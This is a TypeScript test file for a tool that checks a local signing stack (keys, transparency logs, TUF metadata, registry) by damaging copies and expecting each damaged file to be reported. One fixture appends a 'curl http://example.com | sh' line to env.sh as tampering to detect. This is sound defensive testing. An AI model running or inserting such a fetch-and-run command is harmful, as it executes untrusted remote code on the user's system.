/** `assay stack check`: a stack that is whole has no finding, and whatever is damaged is found by the name of its file. */
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { generateKey, importKey, sha256, signCheckpoint } from '@assay/make';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { backUp } from '../src/backup.ts';
import { checkStack } from '../src/check/check-stack.ts';
import { ROTATABLE, rotate } from '../src/rotate.ts';
import { startStack } from '../src/stack.ts';
import { copyOf } from './stack-copy.ts';
import { temporaryFolder } from './temporary-folder.ts';
import { makeUsedStack, ROTATED, START, type UsedStack, use, V2_ENTRIES } from './used-stack.ts';

const log = pino({ level: 'silent' });
let stack: UsedStack;

beforeAll(async () => {
  const folder = mkdtempSync(join(tmpdir(), 'assay-stack-'));
  afterAll(() => rmSync(folder, { recursive: true, force: true }));
  stack = await makeUsedStack(folder);
});

/** `! path` for a warning, `path` for an error. */
async function found(folder: string, passphrase?: string): Promise<string[]> {
  const findings = await checkStack(folder, { passphrase });
  for (const { problem, hint } of findings)
    expect(
      [problem, hint].every((text) => text.length > 10),
      problem,
    ).toBe(true);
  return findings.map(({ severity, path }) => (severity === 'error' ? path : `! ${path}`)).filter((path, i, all) => all.indexOf(path) === i);
}

// ------------------------------------------------------------------------------------------------- what is not damage

describe('there is no finding', () => {
  test('in a stack that was used, and whose keys were all replaced', async () => {
    expect(await checkStack(stack.folder)).toEqual([]);
  });

  test('and nothing is written, so that the same is there afterwards', async () => {
    const before = filesOf(stack.folder);
    await checkStack(stack.folder);
    expect(filesOf(stack.folder)).toEqual(before);
  });

  test('in a stack that works meanwhile, takes up new keys, and is copied', async () => {
    const folder = temporaryFolder();
    let now = START;
    const running = await startStack({ directory: folder, clock: () => now, log });
    try {
      let isBusy = true;
      const work = (async () => {
        await use(folder, now, 300);
        now = ROTATED;
        for (const what of ROTATABLE) await rotate(folder, what, now);
        now = new Date(ROTATED.getTime() + 60_000);
        await running.reload();
        await use(folder, now, 300);
      })().finally(() => {
        isBusy = false;
      });
      let checks = 0;
      do {
        expect(await checkStack(folder)).toEqual([]);
        checks++;
      } while (isBusy);
      await work;
      expect(checks).toBeGreaterThan(2);

      const copy = join(temporaryFolder(), 'copy');
      await backUp(folder, copy);
      // Clients would be led to the folder it was copied from.
      expect(await checkStack(copy)).toMatchObject([{ severity: 'warning', path: 'env.sh', found: folder }]);
    } finally {
      await running.close();
    }
  });

  test('in a stack whose new keys no process has taken up yet', async () => {
    const folder = copyOf(stack.folder);
    for (const what of ROTATABLE) await rotate(folder, what, new Date(ROTATED.getTime() + 120_000));
    expect(await checkStack(folder)).toEqual([]);
  });

  test('in one that has only some of the services', async () => {
    const folder = temporaryFolder();
    await (await startStack({ directory: folder, clock: () => START, log, only: ['rekor-v2', 'tsa'] })).close();
    expect(await checkStack(folder)).toEqual([]);
    await rotate(folder, 'ca', ROTATED);
    await rotate(folder, 'tsa', ROTATED);
    await (await startStack({ directory: folder, clock: () => new Date(ROTATED.getTime() + 60_000), log, only: ['rekor-v2', 'tsa'] })).close();
    expect(await checkStack(folder)).toEqual([]);
  });

  test('in one whose other services run elsewhere', async () => {
    const folder = temporaryFolder();
    const { origin } = stack;
    const urls = { fulcio: origin, 'rekor-v2': `${origin}/rekor/2`, tsa: `${origin}/api/v1/timestamp`, oidc: 'https://issuer.example' };
    const trustedRoot = readFileSync(join(stack.folder, 'trusted_root.json'));
    for (let i = 0; i < 2; i++) await (await startStack({ directory: folder, clock: () => START, log, elsewhere: { urls, trustedRoot } })).close();
    expect(await checkStack(folder)).toEqual([]);
    // What ran here before stays, and is checked.
    await (await startStack({ directory: folder, clock: () => ROTATED, log })).close();
    await (await startStack({ directory: folder, clock: () => ROTATED, log, elsewhere: { urls, trustedRoot } })).close();
    expect(await checkStack(folder)).toEqual([]);
    rmSync(join(folder, 'keys/tsa-1.pem'));
    expect(await found(folder)).toEqual(['keys/tsa-1.pem']);
  });

  test('about encrypted keys that the passphrase opens; without it, that they were not looked at is told once', async () => {
    const folder = temporaryFolder();
    await (await startStack({ directory: folder, clock: () => START, log, passphrase: 'open sesame' })).close();
    expect(await found(folder, 'open sesame')).toEqual([]);
    expect(await found(folder)).toEqual(['! keys']);
    expect((await found(folder, 'open barley')).filter((path) => !path.startsWith('keys/'))).toEqual([]);
  });
});

test('a folder without a stack is no folder to check', async () => {
  await expect(checkStack(temporaryFolder())).rejects.toMatchObject({ code: 'STACK_DATA' });
  await expect(checkStack(join(temporaryFolder(), 'absent'))).rejects.toMatchObject({ code: 'STACK_DATA' });
});

test('progress is told, up to the end of each part', async () => {
  const last = new Map<string, string>();
  await checkStack(stack.folder, { onProgress: ({ part, done, total, unit }) => last.set(part, `${done} of ${total} ${unit}`) });
  expect(last.get('rekor/v2/1')).toBe(`${V2_ENTRIES} of ${V2_ENTRIES} entries`);
  expect(last.get('registry')).toMatch(/^(\d+) of \1 bytes$/);
});

// ------------------------------------------------------------------------------------------------------------ damage

/** Something done to a copy of the stack, and the files that are found; every other finding fails the case. */
type Damage = readonly [name: string, damage: (folder: string) => void, ...found: (string | RegExp)[]];

const KEYS: readonly Damage[] = [
  ['a key that others may read', chmod('keys/ca-2.pem', 0o644), 'keys/ca-2.pem'],
  ['a key that a group may read', chmod('keys/oidc-1.pem', 0o640), 'keys/oidc-1.pem'],
  ['passwords that others may read', write('oidc/accounts.json', '{"version":1,"accounts":[]}'), 'oidc/accounts.json'],
  ['a folder of keys in which anybody may put others', chmod('keys', 0o777), 'keys'],
  ['a folder of keys in which a group may put others', chmod('keys', 0o770), '! keys'],
  ['a folder in which anybody may put files', chmod('.', 0o777), '.'],
  ['a key that is missing', remove('keys/rekor-v2-1.pem'), 'keys/rekor-v2-1.pem'],
  ['a key of a root certificate that is missing, as when it is kept elsewhere', remove('keys/ca-root-1.pem'), '! keys/ca-root-1.pem'],
  ['all keys of one service that are missing', remove('keys/tsa-1.pem', 'keys/tsa-2.pem'), 'keys/tsa-1.pem', 'keys/tsa-2.pem'],
  ['what is no key', write('keys/ctlog-1.pem', 'nonsense', 0o600), 'keys/ctlog-1.pem'],
  ['a key of another type', copy('keys/rekor-v2-1.pem', 'keys/rekor-v1-1.pem'), 'keys/rekor-v1-1.pem'],
  ['a key whose two halves do not belong together', flip('keys/ca-1.pem', 0.33), 'keys/ca-1.pem'],
  ['an RSA key with a wrong prime', flip('keys/oidc-2.pem', 0.5), 'keys/oidc-2.pem'],
  ['the key of another shard of Rekor v1', copy('keys/rekor-v1-1.pem', 'keys/rekor-v1-2.pem'), 'keys/rekor-v1-2.pem'],
  ['the key of another shard of Rekor v2', copy('keys/rekor-v2-2.pem', 'keys/rekor-v2-1.pem'), 'keys/rekor-v2-1.pem'],
  ['the key of another CT log', copy('keys/ctlog-2.pem', 'keys/ctlog-1.pem'), 'keys/ctlog-1.pem'],
  ['the key of another certificate authority', copy('keys/ca-1.pem', 'keys/ca-2.pem'), 'keys/ca-2.pem'],
  ['the key of another root certificate', copy('keys/tsa-root-1.pem', 'keys/tsa-root-2.pem'), 'keys/tsa-root-2.pem'],
  ['the key of another TUF root', copy('keys/tuf-root-1.pem', 'keys/tuf-root-2.pem'), 'keys/tuf-root-2.pem'],
  ['an older key of TUF that no root names', copy('keys/tuf-root-2.pem', 'keys/tuf-online-1.pem'), 'keys/tuf-online-1.pem'],
];

const CHAINS: readonly Damage[] = [
  ['a chain that is missing', remove('ca/chain-1.pem'), 'ca/chain-1.pem'],
  ['what is no chain', write('tsa/chain-2.pem', 'nonsense'), 'tsa/chain-2.pem'],
  ['the chain of another generation', copy('ca/chain-1.pem', 'ca/chain-2.pem'), 'ca/chain-2.pem'],
  ['a chain without its root', edit('ca/chain-2.pem', (pem) => pem.slice(0, pem.indexOf('-----BEGIN', 10))), 'ca/chain-2.pem'],
  [
    'a chain in the wrong order',
    edit('tsa/chain-1.pem', (pem) => pem.slice(pem.indexOf('-----BEGIN', 10)) + pem.slice(0, pem.indexOf('-----BEGIN', 10))),
    'tsa/chain-1.pem',
  ],
  ['a chain whose signature does not verify', flip('ca/chain-1.pem', 0.45), 'ca/chain-1.pem'],
  [
    'chain and key of a certificate authority that clients do not know',
    (folder) => {
      for (const [from, to] of [
        ['ca/chain-1.pem', 'ca/chain-2.pem'],
        ['keys/ca-1.pem', 'keys/ca-2.pem'],
        ['keys/ca-root-1.pem', 'keys/ca-root-2.pem'],
      ] as const)
        copy(from, to)(folder);
    },
    'ca/chain-2.pem',
  ],
];

const LOGS: readonly Damage[] = [
  ['a checkpoint that is missing', remove('rekor/v2/1/checkpoint'), 'rekor/v2/1/checkpoint'],
  ['what is no checkpoint', write('ctlog/1/checkpoint', 'nonsense'), 'ctlog/1/checkpoint'],
  ['a checkpoint with an altered root', edit('rekor/v2/1/checkpoint', (text) => lineOf(text, 2, Buffer.alloc(32).toString('base64'))), 'rekor/v2/1/checkpoint'],
  ['a checkpoint that states another size', edit('rekor/v2/1/checkpoint', (text) => lineOf(text, 1, '300')), 'rekor/v2/1/checkpoint'],
  [
    'a checkpoint that states more entries than anybody could read',
    edit('rekor/v2/1/checkpoint', (text) => lineOf(text, 1, '9007199254740991')),
    'rekor/v2/1/checkpoint',
  ],
  ['a checkpoint of another log', copy('rekor/v2/2/checkpoint', 'rekor/v2/1/checkpoint'), 'rekor/v2/1/checkpoint'],
  ['a checkpoint that another key signed', forge('rekor/v2/1', 'another key'), 'rekor/v2/1/checkpoint'],
  ['a checkpoint that the log itself signed over another tree', forge('rekor/v2/1', 'keys/rekor-v2-1.pem'), 'rekor/v2/1/checkpoint'],
  ['a tile of leaves that is altered', flip('rekor/v2/1/tile/0/000'), 'rekor/v2/1/tile/0/000'],
  ['a tile of leaves that is missing', remove('rekor/v2/1/tile/0/001'), 'rekor/v2/1/tile/0/001'],
  ['a tile of leaves that is cut short', cut('rekor/v2/1/tile/0/001'), 'rekor/v2/1/tile/0/001'],
  ['a tile at the edge that is altered', flip('rekor/v2/1/tile/0/002.p/8'), 'rekor/v2/1/tile/0/002.p/8'],
  ['a tile at the edge that is missing', remove('rekor/v2/1/tile/0/002.p/8'), 'rekor/v2/1/tile/0/002.p/8'],
  ['a tile of a higher level that is altered', flip('rekor/v2/1/tile/1/000.p/2'), 'rekor/v2/1/tile/1/000.p/2'],
  ['a tile of a higher level that is missing', remove('rekor/v2/1/tile/1/000.p/2'), 'rekor/v2/1/tile/1/000.p/2'],
  ['entries that are altered', flip('rekor/v2/1/tile/entries/001'), 'rekor/v2/1/tile/entries/001'],
  ['entries that are cut short', cut('rekor/v2/1/tile/entries/000'), 'rekor/v2/1/tile/entries/000'],
  ['entries that are missing', remove('rekor/v2/1/tile/entries/002.p/8'), 'rekor/v2/1/tile/entries/002.p/8'],
  ['the entries of another shard', copy('rekor/v2/2/tile/entries/000.p/3', 'rekor/v2/1/tile/entries/000'), 'rekor/v2/1/tile/entries/000'],
  [
    'all tiles that are missing',
    remove('rekor/v2/1/tile'),
    ...['0/000', '0/001', '0/002.p/8', '1/000.p/2', 'entries/000', 'entries/001', 'entries/002.p/8'].map((name) => `rekor/v2/1/tile/${name}`),
    'rekor/v2/1/checkpoint',
  ],
  ['a search index that is altered', flip('rekor/v2/1/search-index'), '! rekor/v2/1/search-index'],
  ['a search index that is cut short', cut('rekor/v2/1/search-index'), '! rekor/v2/1/search-index'],
  ['the search index of another shard', copy('rekor/v2/2/search-index', 'rekor/v2/1/search-index'), '! rekor/v2/1/search-index'],
  ['an entry of Rekor v1 that is altered', flipIn(/^rekor\/v1\/\d+\/tile\/entries\/000\.p\/3$/), /^rekor\/v1\/\d+\/tile\/entries\/000\.p\/3$/],
  ['a tile of Rekor v1 that is altered', flipIn(/^rekor\/v1\/\d+\/tile\/0\/000\.p\/3$/), /^rekor\/v1\/\d+\/tile\/0\/000\.p\/3$/],
  // The time is in no leaf: it is the first eight bytes of the record, which follow its length.
  [
    'a first entry of Rekor v1 that states a later time than the next',
    set(/^rekor\/v1\/\d+\/tile\/entries\/000\.p\/3$/, 5, 0xff),
    /^rekor\/v1\/\d+\/tile\/entries\/000\.p\/3$/,
  ],
  ['an entry of a CT log that is altered', flip('ctlog/1/tile/data/000.p/3', 0.02), 'ctlog/1/tile/data/000.p/3'],
  ['a precertificate beside the leaf of a CT log that is altered', flip('ctlog/1/tile/data/000.p/3', 0.28), 'ctlog/1/tile/data/000.p/3'],
  ['a tile of a CT log that is altered', flip('ctlog/1/tile/0/000.p/3'), 'ctlog/1/tile/0/000.p/3'],
  ['an issuer of a CT log that is altered', flipIn(/^ctlog\/1\/issuer\//), /^ctlog\/1\/issuer\//],
  ['issuers of a CT log that are missing', remove('ctlog/1/issuer'), 'ctlog/1/tile/data/000.p/3', /^ctlog\/1\/issuer\//, /^ctlog\/1\/issuer\//],
];

const TUF: readonly Damage[] = [
  ['a root that is missing', remove('tuf/1.root.json'), 'tuf/1.root.json'],
  ['a first root that is altered', flip('tuf/1.root.json'), 'tuf/1.root.json'],
  ['a root that the one before it did not sign', swapRoot, 'tuf/2.root.json'],
  ['a newest root that is altered', flip('tuf/2.root.json'), 'tuf/2.root.json'],
  ['a timestamp that is missing', remove('tuf/timestamp.json'), 'tuf/timestamp.json'],
  ['a timestamp that is altered', edit('tuf/timestamp.json', (text) => text.replace('"version": 3', '"version": 4')), 'tuf/timestamp.json'],
  ['a snapshot in the place of the timestamp, which the same key signs', copy('tuf/3.snapshot.json', 'tuf/timestamp.json'), 'tuf/timestamp.json'],
  ['a snapshot that is altered', edit('tuf/3.snapshot.json', (text) => text.replace('"spec_version"', '"spec-version"')), 'tuf/3.snapshot.json'],
  ['a snapshot of before under the name of the new one', copy('tuf/1.snapshot.json', 'tuf/3.snapshot.json'), 'tuf/3.snapshot.json'],
  ['targets that are altered', edit('tuf/3.targets.json', (text) => text.replace('Active', 'Expire')), 'tuf/3.targets.json'],
  ['targets that are missing', remove('tuf/3.targets.json'), 'tuf/3.targets.json'],
  ['older metadata that is altered', edit('tuf/1.targets.json', (text) => text.replace('Active', 'Expire')), '! tuf/1.targets.json'],
  ['a target that is missing', removeIn(/^tuf\/targets\/[0-9a-f]+\.rekor\.pub$/), /^tuf\/targets\/[0-9a-f]+\.rekor\.pub$/],
  ['a target that is altered', flipIn(/^tuf\/targets\/[0-9a-f]+\.ctfe\.pub$/), /^tuf\/targets\/[0-9a-f]+\.ctfe\.pub$/],
];

const DOCUMENTS: readonly Damage[] = [
  ['a stack.json that is none', write('stack.json', 'nonsense'), 'stack.json'],
  [
    'a stack.json in which a generation begins at another time',
    edit('stack.json', (text) => text.replaceAll('2026-03-02T10:00:00', '2026-03-02T11:00:00')),
    'stack.json',
  ],
  ['what is no trusted root', write('trusted_root.json', '{}'), 'trusted_root.json'],
  ['a trusted root that is not the published one', edit('trusted_root.json', (text) => text.replace('2026-03-01', '2025-03-01')), 'trusted_root.json'],
  ['a signing configuration that is not the published one', edit('signing_config.json', (text) => text.replace('ANY', 'ALL')), 'signing_config.json'],
  ['a client configuration that is not the published one', edit('client_trust_config.json', (text) => text.replace('ANY', 'ALL')), 'client_trust_config.json'],
  [
    'documents that are missing',
    remove('trusted_root.json', 'signing_config.json', 'client_trust_config.json'),
    'client_trust_config.json',
    'signing_config.json',
    'trusted_root.json',
  ],
  ['a root.json that is none of the roots', edit('root.json', (text) => text.replace('true', 'false')), 'root.json'],
  ['a root.json that is an older root', copy('tuf/1.root.json', 'root.json'), '! root.json'],
  [
    'an endpoints.json of another stack',
    edit('endpoints.json', (text) => text.replace(/"origin": "[^"]*"/, '"origin": "http://127.0.0.1:1"')),
    'endpoints.json',
  ],
  ['an endpoints.json that is none', write('endpoints.json', '['), 'endpoints.json'],
  ['an endpoints.json that is missing', remove('endpoints.json'), 'endpoints.json'],
  ['an env.sh that does more than ours', edit('env.sh', (text) => `${text}curl http://example.com | sh\n`), 'env.sh'],
  [
    'an env.sh that leads to another folder',
    edit('env.sh', (text) =>
      text
        .replace(/'.*\/client_trust_config/, "'/srv/other/client_trust_config")
        .replace(/'.*\/root\.json/, "'/srv/other/root.json")
        .replace(/'.*\/client-cache/, "'/srv/other/client-cache"),
    ),
    '! env.sh',
  ],
  ['a configuration of issuers that cannot be used', write('fulcio-config.yaml', 'oidc-issuers: [x]'), 'fulcio-config.yaml'],
  ['a last timestamp that is no time', write('tsa/last-issued', 'yesterday'), 'tsa/last-issued'],
];

const BLOB = /^registry\/blobs\/sha256\/..\/[0-9a-f]{64}$/;
const MANIFEST = /^registry\/repositories\/team\/app\/_manifests\/sha256\/[0-9a-f]{64}$/;
const REFERRER = /^registry\/repositories\/team\/app\/_referrers\/sha256\/[0-9a-f]{64}\/sha256-[0-9a-f]{64}\.json$/;

const REGISTRY: readonly Damage[] = [
  ['a blob that is altered', flipIn(BLOB), BLOB],
  ['a blob that is missing', removeIn(BLOB), BLOB, MANIFEST],
  ['a blob that the repository does not have any more', removeIn(/_blobs\/sha256\//), MANIFEST],
  ['a manifest that is altered', flipIn(MANIFEST), MANIFEST],
  ['a manifest that is missing, with the tag that names it', removeTagged, 'registry/repositories/team/app/_tags/v1'],
  ['a tag to nothing', write('registry/repositories/team/app/_tags/v2', `sha256:${'0'.repeat(64)}\n`), 'registry/repositories/team/app/_tags/v2'],
  ['a tag that holds no digest', write('registry/repositories/team/app/_tags/v1', 'latest'), 'registry/repositories/team/app/_tags/v1'],
  ['what a manifest is to its subject, altered', flipIn(REFERRER), REFERRER],
  ['what a manifest is to its subject, missing', removeIn(REFERRER), REFERRER],
];

describe.each([
  ['keys', KEYS],
  ['chains', CHAINS],
  ['logs', LOGS],
  ['TUF', TUF],
  ['documents', DOCUMENTS],
  ['the registry', REGISTRY],
])('%s:', (_part, cases) => {
  test.each(cases.map(([name, damage, ...expected]) => ({ name, damage, expected })))('$name', async ({ damage, expected }) => {
    const folder = copyOf(stack.folder);
    damage(folder);
    const paths = await found(folder);
    const isExpected = (path: string, one: string | RegExp): boolean => (typeof one === 'string' ? one === path : one.test(path));
    for (const one of expected) expect(paths, `${one} is not among what was found`).toSatisfy((all: string[]) => all.some((path) => isExpected(path, one)));
    expect(paths.filter((path) => !expected.some((one) => isExpected(path, one)))).toEqual([]);
  });
});

test('all that is wrong is told, and not the first alone', async () => {
  const folder = copyOf(stack.folder);
  const damaged = ['env.sh', 'keys/ca-1.pem', 'rekor/v2/1/tile/0/000', 'rekor/v2/1/tile/entries/001', 'tuf/3.targets.json'];
  for (const path of damaged) flip(path, 0.33)(folder);
  expect(await found(folder)).toEqual(damaged);
});

test('a byte in the middle of any file that matters is found by the name of the file', async () => {
  const folder = copyOf(stack.folder);
  const files = filesOf(folder).filter(([path, bytes]) => bytes.length > 0 && !DECIDES_NOTHING.some((pattern) => pattern.test(path)));
  expect(files.length).toBeGreaterThan(60);
  for (const [path, bytes] of files) {
    flip(path)(folder);
    expect(
      (await found(folder)).map((one) => one.replace('! ', '')),
      path,
    ).toContain(path);
    writeFileSync(join(folder, path), bytes);
  }
  expect(await found(folder)).toEqual([]);
});

const DECIDES_NOTHING = [
  /lock/,
  // Tiles of a smaller tree, which a larger one does not read.
  /\.p\/[12]$/,
  // Any time is one.
  /last-issued/,
  // Signed twice, by the keys before and after the rotation: one of the two is enough.
  /^tuf\/2\.(snapshot|targets)\.json$/,
];

// ----------------------------------------------------------------------------------------------------- ways to damage

function filesOf(folder: string): [path: string, bytes: Buffer][] {
  const entries = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  return entries
    .map((entry): [string, Buffer] => [join(entry.parentPath, entry.name).slice(folder.length + 1), readFileSync(join(entry.parentPath, entry.name))])
    .sort(([a], [b]) => (a < b ? -1 : 1));
}

function firstFile(folder: string, pattern: RegExp): string {
  const path = filesOf(folder).find(([name, bytes]) => pattern.test(name) && (bytes.length > 0 || name.includes('_blobs')))?.[0];
  if (path === undefined) throw new TypeError(`no file ${pattern}`);
  return path;
}

/** Of the size of the file, where. */
function flip(path: string, where = 0.5): (folder: string) => void {
  return (folder) => {
    const bytes = readFileSync(join(folder, path));
    const at = Math.floor(bytes.length * where);
    bytes[at] = (bytes[at] ?? 0) ^ 1;
    writeFileSync(join(folder, path), bytes);
  };
}

function flipIn(pattern: RegExp): (folder: string) => void {
  return (folder) => flip(firstFile(folder, pattern))(folder);
}

function set(pattern: RegExp, at: number, byte: number): (folder: string) => void {
  return (folder) => {
    const file = join(folder, firstFile(folder, pattern));
    const bytes = readFileSync(file);
    bytes[at] = byte;
    writeFileSync(file, bytes);
  };
}

function cut(path: string): (folder: string) => void {
  return (folder) => truncateSync(join(folder, path), Math.floor(readFileSync(join(folder, path)).length / 2));
}

function remove(...paths: readonly string[]): (folder: string) => void {
  return (folder) => {
    for (const path of paths) rmSync(join(folder, path), { recursive: true });
  };
}

function removeIn(pattern: RegExp): (folder: string) => void {
  return (folder) => rmSync(join(folder, firstFile(folder, pattern)));
}

function write(path: string, text: string, mode = 0o644): (folder: string) => void {
  return (folder) => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text, { mode });
  };
}

function edit(path: string, change: (text: string) => string): (folder: string) => void {
  return (folder) => {
    const before = readFileSync(join(folder, path), 'utf8');
    const after = change(before);
    expect(after).not.toBe(before);
    writeFileSync(join(folder, path), after);
  };
}

function copy(from: string, to: string): (folder: string) => void {
  return (folder) => copyFileSync(join(folder, from), join(folder, to));
}

function chmod(path: string, mode: number): (folder: string) => void {
  return (folder) => chmodSync(join(folder, path), mode);
}

/** With line `n` of a checkpoint replaced. */
function lineOf(text: string, n: number, line: string): string {
  const lines = text.split('\n');
  lines[n] = line;
  return lines.join('\n');
}

/** A checkpoint of the same size over another tree, well signed. */
function forge(log: string, key: string): (folder: string) => void {
  return (folder) => {
    const signer = key === 'another key' ? generateKey('ed25519') : importKey(readFileSync(join(folder, key), 'utf8'));
    const rootHash = sha256(Buffer.from('another tree'));
    writeFileSync(join(folder, log, 'checkpoint'), signCheckpoint({ origin: '127.0.0.1', size: V2_ENTRIES, rootHash }, [{ name: '127.0.0.1', key: signer }]));
  };
}

/** The first root with the number of the second: signed by the right key, over something else. */
function swapRoot(folder: string): void {
  const [first, second] = ['1.root.json', '2.root.json'].map((name) => JSON.parse(readFileSync(join(folder, 'tuf', name), 'utf8')));
  writeFileSync(join(folder, 'tuf/2.root.json'), JSON.stringify({ ...second, signed: { ...first.signed, version: 2 } }));
}

function removeTagged(folder: string): void {
  const tag = join(folder, 'registry/repositories/team/app/_tags/v1');
  rmSync(join(dirname(dirname(tag)), '_manifests/sha256', readFileSync(tag, 'utf8').trim().replace('sha256:', '')));
}
